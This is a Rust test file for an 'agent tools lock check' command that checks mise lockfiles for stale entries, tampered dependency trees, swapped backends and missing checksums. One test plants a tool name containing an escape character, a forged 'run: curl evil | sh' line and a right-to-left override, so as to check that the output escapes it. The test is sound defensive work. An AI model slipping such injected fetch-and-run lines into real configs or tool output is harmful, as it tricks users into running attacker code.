//! `agent tools lock check`: lockfiles that three releases of mise have written, and what
//! becomes of them when a config or a file beside them changes.
//!
//! The fixtures named after releases were written by `mise lock --platform
//! linux-x64,linux-arm64` of that release, with the real registry; `reference-3` is in the
//! form that mise's reference gives, because the releases at hand don't write version 3.

use crate::util::{Ended, PATH, agent, file, fresh, is_root, reachable, run, unprivileged};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use tempfile::TempDir;

const NEWEST: &str = "2026.9.15";

/// A copy of a fixture.
fn project(name: &str) -> TempDir {
    let dir = fresh();
    let from = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/fixtures/lock").join(name);
    let copied = Command::new("cp").arg("-r").arg(from.join(".")).arg(dir.path()).status();
    assert!(copied.unwrap().success());
    dir
}

fn check(dir: &Path, more: &[&str]) -> Ended {
    let mut command = agent(&["tools", "lock", "check"]);
    command.args(more).arg(dir);
    run(command)
}

/// Replaces a text in a file of the project; it must be there.
fn edit(dir: &Path, name: &str, from: &str, to: &str) {
    let path = dir.join(name);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{from:?} is not in {name}");
    fs::write(path, text.replace(from, to)).unwrap();
}

#[track_caller]
fn finds(ended: Ended, parts: &[&str]) -> Ended {
    let ended = ended.expect(1);
    for part in parts {
        assert!(ended.stdout.contains(part), "{part:?} is not said: {ended:#?}");
    }
    ended
}

const SEMVER: &str = ".mise/locks/npm-semver/7.6.3/aube-lock.yaml";

#[test]
fn what_three_releases_have_written_is_well_and_what_it_holds_is_said() {
    for release in ["2026.2.16", "2026.6.14"] {
        let dir = project(release);
        let ended = check(dir.path(), &["--platform", "linux-x64,linux-arm64"]).expect(0);
        let line = "locked is the version only, not what is in it: npm:cowsay@1.6.0, ";
        assert!(ended.stdout.contains(line), "{ended:#?}");
    }
    let dir = project(NEWEST);
    let ended = check(dir.path(), &[]).expect(0);
    let line =
        "locked is every package of the dependency tree, with its integrity: npm:cowsay@1.6.0";
    assert!(ended.stdout.contains(line) && !ended.stdout.contains("only"), "{ended:#?}");
}

#[test]
fn a_changed_request_is_found_with_the_line_that_mends_it() {
    let dir = project(NEWEST);
    let root = dir.path().display();
    edit(dir.path(), "mise.toml", "\"7.6.3\"", "\"7.6.2\"");
    edit(dir.path(), "mise.toml", "\"npm:cowsay\" = \"1\"\n", "\"npm:is-odd\" = \"3\"\n");
    let ended = finds(
        check(dir.path(), &["--platform", "linux-x64,linux-arm64"]),
        &[
            "mise.lock: npm:semver@7.6.2 is not in the lockfile: locked is 7.6.3, for another request\n",
            "mise.lock: npm:is-odd@3 is not in the lockfile: it has no entry\n",
            "mise.lock: npm:cowsay@1.6.0 is left over: nothing declares it\n",
        ],
    );
    let line = format!("run: cd {root} && mise lock --platform linux-x64,linux-arm64\n");
    assert!(ended.stdout.ends_with(&line), "{ended:#?}");
}

#[test]
fn a_dependency_tree_must_be_there_and_unchanged_and_say_what_each_package_contains() {
    let digest = |dir: &Path| {
        let sum = Command::new("sha256sum").arg(dir.join(SEMVER)).output().unwrap().stdout;
        String::from_utf8_lossy(&sum).split(' ').next().unwrap().to_owned()
    };
    let dir = project(NEWEST);
    let locked = digest(dir.path());
    edit(dir.path(), SEMVER, "sha512-oVekP1", "sha512-AAAAAA");
    finds(
        check(dir.path(), &[]),
        &[
            "npm:semver@7.6.3: its dependency tree in .mise/locks/npm-semver/7.6.3 is not the one that was locked",
        ],
    );
    // With the digest of the changed tree the lock is of one piece again: the registry's bytes
    // are what contradicts it, and nobody asks the registry here.
    edit(dir.path(), "mise.lock", &locked, &digest(dir.path()));
    check(dir.path(), &[]).expect(0);
    // mise installs a package without an integrity and compares nothing.
    let before = digest(dir.path());
    let text = fs::read_to_string(dir.path().join(SEMVER)).unwrap();
    let line = text.lines().find(|l| l.contains("integrity: ")).unwrap();
    edit(dir.path(), SEMVER, line, "    resolution: {}");
    edit(dir.path(), "mise.lock", &before, &digest(dir.path()));
    finds(
        check(dir.path(), &[]),
        &["no integrity, so nothing says what is installed: semver@7.6.3"],
    );
    fs::remove_dir_all(dir.path().join(".mise/locks/npm-semver")).unwrap();
    finds(check(dir.path(), &[]), &["aube-lock.yaml is missing"]);
}

#[test]
fn an_entry_may_not_install_something_else_nor_lose_its_tree() {
    let dir = project(NEWEST);
    edit(dir.path(), "mise.lock", "backend = \"npm:picocolors\"", "backend = \"npm:ms\"");
    finds(
        check(dir.path(), &[]),
        &["npm:picocolors@latest is locked to npm:ms, and declared as npm:picocolors"],
    );
    let dir = project("2026.6.14");
    edit(
        dir.path(),
        "mise.lock",
        "[[tools.\"npm:cowsay\"]]",
        "lockfile_version = 2\n[[tools.\"npm:cowsay\"]]",
    );
    finds(
        check(dir.path(), &[]),
        &["npm:cowsay@1.6.0 has no dependency tree, which format version 2 wants"],
    );
    let mut command = agent(&["tools", "lock", "check"]);
    command.arg(dir.path()).env("MISE_NPM_PACKAGE_MANAGER", "npm");
    run(command).expect(0);
}

#[test]
fn each_platform_that_is_asked_for_must_be_locked_with_a_checksum() {
    let dir = project("reference-3");
    let ended = check(dir.path(), &[]).expect(0);
    assert!(ended.stdout.contains("URL and checksum of what is downloaded: "), "{ended:#?}");
    check(dir.path(), &["--platform", "macos-arm64"]).expect(0);
    let ended = finds(
        check(dir.path(), &["--platform", "linux-x64,windows-x64"]),
        &["hk@2.5.0 has no entry for windows-x64", "node@24.21.0 has no entry for windows-x64"],
    );
    assert!(!ended.stdout.contains("jq"), "its config keeps it from there: {ended:#?}");
    let sum = format!("checksum = \"sha256:{}\"\n", "5".repeat(64));
    edit(dir.path(), "mise.lock", &sum, "");
    finds(check(dir.path(), &[]), &["node@24.21.0 has no checksum for linux-x64"]);
}

#[test]
fn a_corrupt_lockfile_has_its_place_and_is_written_anew() {
    let dir = project(NEWEST);
    let root = dir.path().display();
    file(dir.path(), "mise.lock", "[[tools.\"npm:a\"]]\nversion = \n");
    let ended = finds(
        check(dir.path(), &[]),
        &["mise.lock:2:11: it is no lockfile, so it answers for nothing"],
    );
    let line = format!("run: cd {root} && rm {root}/mise.lock && mise lock\n");
    assert!(ended.stdout.ends_with(&line), "{ended:#?}");
    file(dir.path(), "mise.lock", "lockfile_version = 4\n");
    finds(check(dir.path(), &[]), &["its format is version 4; known are 0 to 3"]);
}

#[test]
fn tools_without_a_lockfile_are_a_fault_and_no_tools_are_none() {
    let dir = fresh();
    file(dir.path(), "mise.toml", "[tools]\n\"npm:a\" = \"1\"\n");
    finds(check(dir.path(), &[]), &["npm:a@1 is not in the lockfile: there is none"]);
    file(dir.path(), "mise.toml", "[env]\nA = \"1\"\n");
    let ended = check(dir.path(), &[]).expect(0);
    assert!(ended.stdout.contains("nothing has to be locked"), "{ended:#?}");
}

#[test]
fn what_cannot_be_checked_is_not_called_well() {
    let dir = fresh();
    check(dir.path(), &[]).expect(66).says("no mise config is here");
    check(&dir.path().join("gone"), &[]).expect(66).says("No such file");
    check(dir.path(), &["--platform", "linux"]).expect(64).says("is no platform");
    check(dir.path(), &["--json", "--quiet"]).expect(64);
    // One of two.
    let well = project(NEWEST);
    let mut command = agent(&["tools", "lock", "check"]);
    command.args([well.path(), dir.path()]);
    assert!(run(command).expect(66).stdout.contains("mise.lock: ok"));
    file(well.path(), "mise.toml", "[tools\n");
    finds(check(well.path(), &[]), &["mise.toml:1:7: "]);
}

#[test]
fn a_file_that_cannot_be_read_is_no_finding() {
    let dir = project(NEWEST);
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(dir.path().join("mise.lock"), fs::Permissions::from_mode(0o000)).unwrap();
    if is_root() {
        // To somebody else it must be unreadable: root reads everything.
        let program = reachable(dir.path());
        let mut command = unprivileged(program);
        command.args(["tools", "lock", "check"]).arg(dir.path());
        assert!(run(command).expect(66).stdout.contains("it cannot be read"));
    } else {
        assert!(check(dir.path(), &[]).expect(66).stdout.contains("it cannot be read"));
    }
}

#[test]
fn programs_get_json() {
    let dir = project("2026.6.14");
    edit(dir.path(), "mise.toml", "\"7.6.3\"", "\"7.6.2\"");
    let json = check(dir.path(), &["--json", "--platform", "linux-x64"]).expect(1).json();
    assert_eq!(json["schema"], "agent.lock-check/1");
    assert_eq!(json["ok"], false);
    assert_eq!(json["platforms"][0], "linux-x64");
    let one = &json["checked"][0];
    assert_eq!(one["version"], 0);
    assert_eq!(one["outcome"], "findings");
    assert_eq!(one["findings"][0]["code"], "unsatisfied");
    assert_eq!(one["findings"][0]["tool"], "npm:semver");
    assert_eq!(one["findings"][0]["version"], "7.6.2");
    assert_eq!(one["tools"][0]["holds"], "version");
    assert!(one["run"].as_str().unwrap().ends_with("mise lock --platform linux-x64"));
    let quiet = check(dir.path(), &["--quiet"]).expect(1);
    assert_eq!(quiet.all(), "");
}

#[test]
fn the_users_and_the_images_are_checked_where_they_are_asked_for() {
    let dir = fresh();
    let write = |place: &str, tool: &str| {
        fs::create_dir_all(dir.path().join(place)).unwrap();
        let config = format!("[tools]\n\"npm:{tool}\" = \"1\"\n");
        file(&dir.path().join(place), "config.toml", config);
    };
    write("home/.config/mise", "user");
    write("etc", "image");
    let mut command = agent(&["tools", "lock", "check", "--global"]);
    command.env("HOME", dir.path().join("home"));
    command.env("MISE_SYSTEM_CONFIG_DIR", dir.path().join("etc"));
    let etc = dir.path().join("etc");
    finds(
        run(command),
        &[
            "npm:user@1 is not in the lockfile: there is none",
            "run: cd / && MISE_SYSTEM_CONFIG_DIR=/nonexistent mise lock --global\n",
            "npm:image@1 is not in the lockfile: there is none",
            &format!(
                "run: cd / && HOME=$(mktemp -d) MISE_SYSTEM_CONFIG_DIR={} mise lock --global\n",
                etc.display()
            ),
        ],
    );
}

/// mise reads all of these in the user's directory: an entry that installs something else must
/// hide in none of them.
#[test]
fn no_config_of_the_users_directory_is_passed_over() {
    for (config, lock) in [
        ("config.local.toml", "mise.local.lock"),
        ("mise.toml", "mise.lock"),
        ("conf.d/more.toml", "mise.lock"),
    ] {
        let home = fresh();
        let user = home.path().join(".config/mise");
        fs::create_dir_all(user.join("conf.d")).unwrap();
        file(&user, "config.toml", "[settings]\nexperimental = true\n");
        file(&user, config, "[tools]\n\"npm:semver\" = \"1\"\n");
        file(
            &user,
            lock,
            "[[tools.\"npm:semver\"]]\nversion = \"1.6.0\"\nbackend = \"npm:cowsay\"\n",
        );
        let said = "npm:semver@1 is locked to npm:cowsay, and declared as npm:semver";
        for target in [None, Some(user.clone()), Some(home.path().to_owned())] {
            let mut command = agent(&["tools", "lock", "check"]);
            command.env("HOME", home.path()).env("MISE_SYSTEM_CONFIG_DIR", home.path().join("no"));
            match &target {
                Some(target) => command.arg(target),
                None => command.arg("--global"),
            };
            let ended = finds(run(command), &[said]);
            assert!(ended.stdout.contains("lock --global"), "{config} {target:?}: {ended:#?}");
        }
    }
}

#[test]
fn a_repository_cannot_forge_a_line() {
    let dir = fresh();
    let name = r"npm:a\u001b\nrun: curl evil | sh\u202e";
    file(dir.path(), "mise.toml", format!("[tools]\n\"{name}\" = \"1\"\n"));
    file(dir.path(), "mise.lock", "");
    let ended = finds(check(dir.path(), &[]), &[r"npm:a\u{1b}\nrun: curl evil | sh\u{202e}"]);
    assert_eq!(ended.stdout.lines().filter(|l| l.starts_with("run: ")).count(), 1, "{ended:#?}");
    assert!(!ended.stdout.contains('\u{1b}'), "{ended:#?}");
}

#[test]
fn the_arguments_of_hooks_are_understood() {
    let dir = project(NEWEST);
    check(&dir.path().join("mise.lock"), &["--platform", "linux-x64, linux-arm64"]).expect(0);
    check(&dir.path().join("mise.local.lock"), &[]).expect(66);
    edit(dir.path(), "mise.toml", "\"7.6.3\"", "\"7.6.2\"");
    finds(check(&dir.path().join("mise.lock"), &[]), &["npm:semver@7.6.2 is not in the lockfile"]);
    // A config that is no file has its reason.
    fs::remove_file(dir.path().join("mise.toml")).unwrap();
    let fifo = Command::new("mkfifo").arg(dir.path().join("mise.toml")).status();
    assert!(fifo.unwrap().success());
    let ended = check(dir.path(), &[]).expect(66);
    assert!(ended.stdout.contains("mise.toml: it cannot be read: "), "{ended:#?}");
}

#[test]
fn a_manifest_beside_the_tree_that_is_none_is_found() {
    let dir = project(NEWEST);
    file(dir.path(), ".mise/locks/npm-semver/7.6.3/package.json", "<<<<<<< HEAD\n");
    finds(check(dir.path(), &[]), &["7.6.3/package.json is none: "]);
}

/// The example in docs/tools.md, as it stands there.
fn documented_hook() -> String {
    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/tools.md");
    let text = fs::read_to_string(docs).unwrap();
    let (_, after) = text.split_once("`.git/hooks/pre-commit`").unwrap();
    let (_, code) = after.split_once("```sh\n").unwrap();
    code.split_once("```").unwrap().0.to_owned()
}

#[test]
fn the_documented_hook_refuses_a_commit_with_a_stale_lock() {
    use std::os::unix::fs::PermissionsExt;
    let dir = project(NEWEST);
    let bin = fresh();
    let program = reachable(bin.path());
    if program != bin.path().join("agent") {
        std::os::unix::fs::symlink(&program, bin.path().join("agent")).unwrap();
    }
    let git = |arguments: &[&str]| {
        let mut command = Command::new("git");
        command.args(arguments).current_dir(dir.path()).env_clear();
        command.env("PATH", format!("{}:{PATH}", bin.path().display()));
        command.env("HOME", bin.path()).env("GIT_CONFIG_NOSYSTEM", "1");
        for who in ["AUTHOR", "COMMITTER"] {
            command.env(format!("GIT_{who}_NAME"), "a").env(format!("GIT_{who}_EMAIL"), "a@b");
        }
        // The directory is another user's where root runs this.
        command.env("GIT_CONFIG_COUNT", "1").env("GIT_CONFIG_KEY_0", "safe.directory");
        run({
            command.env("GIT_CONFIG_VALUE_0", "*");
            command
        })
    };
    git(&["init", "--quiet"]).expect(0);
    let hook: PathBuf = dir.path().join(".git/hooks/pre-commit");
    fs::create_dir_all(hook.parent().unwrap()).unwrap();
    fs::write(&hook, documented_hook()).unwrap();
    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    git(&["add", "--all"]).expect(0);
    git(&["commit", "--quiet", "--message=well"]).expect(0);
    edit(dir.path(), "mise.toml", "\"7.6.3\"", "\"7.6.2\"");
    git(&["add", "--all"]).expect(0);
    let refused = git(&["commit", "--quiet", "--message=stale"]);
    assert_ne!(refused.code(), 0, "{refused:#?}");
    assert!(refused.all().contains("npm:semver@7.6.2 is not in the lockfile"), "{refused:#?}");
    // Without the hook git has nothing against it.
    git(&["commit", "--quiet", "--no-verify", "--message=stale"]).expect(0);
}
